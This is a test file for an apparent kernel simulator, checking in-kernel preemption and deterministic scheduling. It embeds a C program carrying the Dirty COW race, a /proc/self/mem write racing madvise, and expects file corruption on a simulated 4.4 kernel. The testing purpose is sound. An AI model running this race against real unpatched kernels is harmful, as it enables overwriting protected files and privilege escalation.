/**
 * The scheduler preempts a thread inside the kernel: a /proc/self/mem write yields at the
 * cond_resched() of __get_user_pages when its time slice is used up, the trace shows `preempt`
 * and later `resume` for that thread, another thread runs in between, and the run is
 * deterministic (same seed, same trace). Kernel side: tests/unit/kernel/dirtycow_preempt.test.ts;
 * the full exploit: tests/programs/systems/dirtycow_race.c.
 */
import { describe, expect, it } from 'vitest'
import { runC } from './run-c'
import type { TraceEvent } from '../../../../electron/kernel'

const SOURCE = `
#include <stdio.h>
#include <stdint.h>
#include <unistd.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
static char *map;
static int mem;
static volatile int done;
static void *writer(void *a) {
  for (int i = 0; i < 300; i++) {
    for (volatile int j = 0; j < i % 61; j++) { }
    pwrite(mem, "X", 1, (off_t)(uintptr_t)map);
  }
  done = 1;
  return 0;
}
static void *zapper(void *a) {
  while (!done) madvise(map, 4096, MADV_DONTNEED);
  return 0;
}
int main(void) {
  int fd = open("/root/f", O_RDWR | O_CREAT, 0644);
  write(fd, "original", 8);
  map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  mem = open("/proc/self/mem", O_RDWR);
  pthread_t a, b;
  pthread_create(&a, 0, writer, 0);
  pthread_create(&b, 0, zapper, 0);
  pthread_join(a, 0);
  pthread_join(b, 0);
  char buf[9] = { 0 };
  pread(fd, buf, 8, 0);
  printf("%s\\n", buf);
  return 0;
}
`

async function run(kernel: '4.4' | '6.18') {
  const events: Array<{ type: string; pid: number; gupFlags: number }> = []
  const r = await runC(SOURCE, {
    kernel,
    onStart: (m) =>
      void m.kernel.subscribe((ev: TraceEvent) => {
        if (ev.type === 'preempt' || ev.type === 'resume') events.push({ type: ev.type, pid: ev.pid, gupFlags: ev.gupFlags })
      })
  })
  return { out: r.out, status: r.status, events }
}

describe('preemption inside the kernel at cond_resched()', () => {
  it('4.4: preempt/resume pairs per thread in the trace; the file is corrupted', async () => {
    const r = await run('4.4')
    expect(r.status).toBe(0)
    expect(r.out).toContain('Xriginal')
    expect(r.events.length).toBeGreaterThan(0)
    // every preempt of a thread is followed by that thread's resume before its next preempt
    // (the machine runs its first round inside spawn, before onStart subscribes: a thread may
    // resume a call whose preemption was not seen)
    const open = new Map<number, boolean>()
    const seen = new Set<number>()
    for (const e of r.events) {
      if (!seen.has(e.pid)) {
        seen.add(e.pid)
        if (e.type === 'resume') continue
      }
      if (e.type === 'preempt') {
        expect(open.get(e.pid)).not.toBe(true)
        open.set(e.pid, true)
      } else {
        expect(open.get(e.pid)).toBe(true)
        open.set(e.pid, false)
      }
    }
    expect([...open.values()].every((v) => !v)).toBe(true)
    // some preemption happened after the COW fault, with FOLL_WRITE (bit 0) already dropped
    expect(r.events.some((e) => e.type === 'preempt' && (e.gupFlags & 1) === 0)).toBe(true)
  }, 60_000)
  it('6.18: the same preemptions leave the file intact; the run is deterministic', async () => {
    const a = await run('6.18')
    const b = await run('6.18')
    expect(a.out).toContain('original')
    expect(a.events.length).toBeGreaterThan(0)
    expect(JSON.stringify(b)).toBe(JSON.stringify(a))
  }, 60_000)
})
